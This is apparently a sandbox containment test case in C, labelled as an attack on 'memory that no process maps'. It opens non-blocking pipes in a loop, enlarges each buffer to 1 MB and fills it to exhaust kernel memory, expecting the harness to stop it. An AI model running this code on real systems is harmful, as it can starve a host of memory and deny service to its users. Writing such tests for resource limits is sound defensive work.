// attack: memory that no process maps | expect: contained
#define _GNU_SOURCE
#include <fcntl.h>
#include <unistd.h>

int twice(int n) {
    static char block[1 << 20];
    long total = 0;
    int ends[2];
    while (pipe2(ends, O_NONBLOCK) == 0) {
        fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
        long wrote = write(ends[1], block, sizeof block);
        if (wrote > 0) total += wrote;
    }
    return total > 1L << 30 ? 2 * n : 0;
}
